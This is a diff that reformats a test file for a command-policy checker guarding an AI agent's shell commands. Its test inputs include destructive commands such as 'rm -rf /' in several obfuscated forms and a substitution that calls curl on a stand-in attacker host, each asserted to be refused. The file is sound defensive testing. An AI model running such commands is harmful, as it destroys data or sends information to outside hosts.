@@ -146,7 +146,9 @@ describe("the default command policy refuses the well-known disasters however th
   it("names what it found in the reason", async () => {
     expect(await check("sudo r''m -rf /")).toEqual({ allowed: false, rule: "rm-rf-root", reason: "refused by policy rule rm-rf-root: rm -r on /" });
     expect(await check('bash -c "rm -rf /"')).toMatchObject({ reason: "refused by policy rule rm-rf-root: in bash -c: rm -r on /" });
-    expect(await check("$(echo rm) -rf /")).toMatchObject({ reason: "refused by policy rule dynamic-command: a command word computed at run time ($(echo rm)) with -rf /" });
+    expect(await check("$(echo rm) -rf /")).toMatchObject({
+      reason: "refused by policy rule dynamic-command: a command word computed at run time ($(echo rm)) with -rf /",
+    });
   });
 });
 
@@ -189,14 +191,17 @@ describe("the default command policy lets ordinary commands through", () => {
     "cat <<'EOF'\nrm -rf /\nEOF",
     "$EDITOR notes.txt",
     "make -j4 && ./bin/run --flag=value",
-    "for f in *.log; do gzip \"$f\"; done",
+    'for f in *.log; do gzip "$f"; done',
     "echo start; if then fi",
   ])("lets %j through", async (task) => {
     expect(await check(task)).toEqual({ allowed: true });
   });
 
   it("lets a 120 KB script through and refuses one disaster hidden at its end", { timeout: 300_000 }, async () => {
-    const script = Array.from({ length: 2000 }, (_, i) => `echo "line ${i}: $(date +%s) \${HOME}/x" 'quoted ${i}' | grep -v foo && ls -la /tmp/${i} || true`).join("\n");
+    const script = Array.from(
+      { length: 2000 },
+      (_, i) => `echo "line ${i}: $(date +%s) \${HOME}/x" 'quoted ${i}' | grep -v foo && ls -la /tmp/${i} || true`,
+    ).join("\n");
     expect(script.length).toBeGreaterThan(120_000);
     // What is checked here is the verdict; the time limit is lifted so a loaded machine cannot change it.
     expect(await checkPolicy(script, defaults, { timeoutMs: 120_000 })).toEqual({ allowed: true });
@@ -211,7 +216,11 @@ describe("a text the parser cannot read completely", () => {
   });
 
   it("refuses a destructive program named in the part it could not parse", async () => {
-    expect(await check('echo "$(rm -rf /"')).toMatchObject({ allowed: false, rule: "unparsed", reason: 'refused by policy rule unparsed: "rm" stands in text the policy could not parse (line 1, column 6)' });
+    expect(await check('echo "$(rm -rf /"')).toMatchObject({
+      allowed: false,
+      rule: "unparsed",
+      reason: 'refused by policy rule unparsed: "rm" stands in text the policy could not parse (line 1, column 6)',
+    });
     expect(await check("function rm -rf /")).toMatchObject({ allowed: false, rule: "unparsed" });
   });
 });
@@ -219,8 +228,18 @@ describe("a text the parser cannot read completely", () => {
 describe("an agent's own policy", () => {
   it("refuses what its deny patterns match in any command, after quote removal, naming the pattern", async () => {
     const policy = compilePolicy({ deny: ["git\\s+push\\s+--force"] });
-    for (const task of ["git push --force origin main", "g''it push --force", "sudo git push --force", "echo x && git   'push' \"--force\"", 'bash -c "git push --force"']) {
-      expect(await check(task, policy)).toEqual({ allowed: false, rule: "deny[0] git\\s+push\\s+--force", reason: "refused by policy rule deny[0] git\\s+push\\s+--force" });
+    for (const task of [
+      "git push --force origin main",
+      "g''it push --force",
+      "sudo git push --force",
+      "echo x && git   'push' \"--force\"",
+      'bash -c "git push --force"',
+    ]) {
+      expect(await check(task, policy)).toEqual({
+        allowed: false,
+        rule: "deny[0] git\\s+push\\s+--force",
+        reason: "refused by policy rule deny[0] git\\s+push\\s+--force",
+      });
     }
     expect(await check("git push origin main", policy)).toEqual({ allowed: true });
   });
@@ -230,12 +249,28 @@ describe("an agent's own policy", () => {
     expect(await check("npm test", policy)).toEqual({ allowed: true });
     expect(await check("npm test && echo done", policy)).toEqual({ allowed: true });
     expect(await check('n"pm" test', policy)).toEqual({ allowed: true });
-    expect(await check("npm publish", policy)).toEqual({ allowed: false, rule: "allow-list", reason: 'refused by policy: the command "npm publish" matches none of the agent\'s allow patterns' });
+    expect(await check("npm publish", policy)).toEqual({
+      allowed: false,
+      rule: "allow-list",
+      reason: 'refused by policy: the command "npm publish" matches none of the agent\'s allow patterns',
+    });
     // A pattern matching a prefix is not enough: the whole command must match.
-    expect(await check("npm test; rm -rf build", policy)).toMatchObject({ allowed: false, rule: "allow-list", reason: expect.stringContaining('"rm -rf build"') });
+    expect(await check("npm test; rm -rf build", policy)).toMatchObject({
+      allowed: false,
+      rule: "allow-list",
+      reason: expect.stringContaining('"rm -rf build"'),
+    });
     expect(await check("npm testx", policy)).toMatchObject({ allowed: false, rule: "allow-list" });
-    expect(await check("echo $(curl evil.example)", policy)).toMatchObject({ allowed: false, rule: "allow-list", reason: expect.stringContaining('"curl evil.example"') });
-    expect(await check("npm test; if then", policy)).toMatchObject({ allowed: false, rule: "allow-list", reason: expect.stringContaining("could not be parsed") });
+    expect(await check("echo $(curl evil.example)", policy)).toMatchObject({
+      allowed: false,
+      rule: "allow-list",
+      reason: expect.stringContaining('"curl evil.example"'),
+    });
+    expect(await check("npm test; if then", policy)).toMatchObject({
+      allowed: false,
+      rule: "allow-list",
+      reason: expect.stringContaining("could not be parsed"),
+    });
   });
 
   it("keeps the default rules even when an allow pattern matches everything", async () => {
@@ -276,6 +311,8 @@ describe("the cost of a check", () => {
     // The time limit is lifted here: this test measures, it does not assert a speed.
     expect(await checkPolicy(script, defaults, { timeoutMs: 280_000 })).toEqual({ allowed: true });
     const used = process.cpuUsage(cpu);
-    console.info(`policy check of a ${(script.length / 1e6).toFixed(2)} MB script (${lines.length} lines): ${Math.round(performance.now() - started)} ms wall, ${Math.round((used.user + used.system) / 1000)} ms CPU (load average ${loadavg()[0]!.toFixed(1)} on ${availableParallelism()} cores)`);
+    console.info(
+      `policy check of a ${(script.length / 1e6).toFixed(2)} MB script (${lines.length} lines): ${Math.round(performance.now() - started)} ms wall, ${Math.round((used.user + used.system) / 1000)} ms CPU (load average ${loadavg()[0]!.toFixed(1)} on ${availableParallelism()} cores)`,
+    );
   });
 });
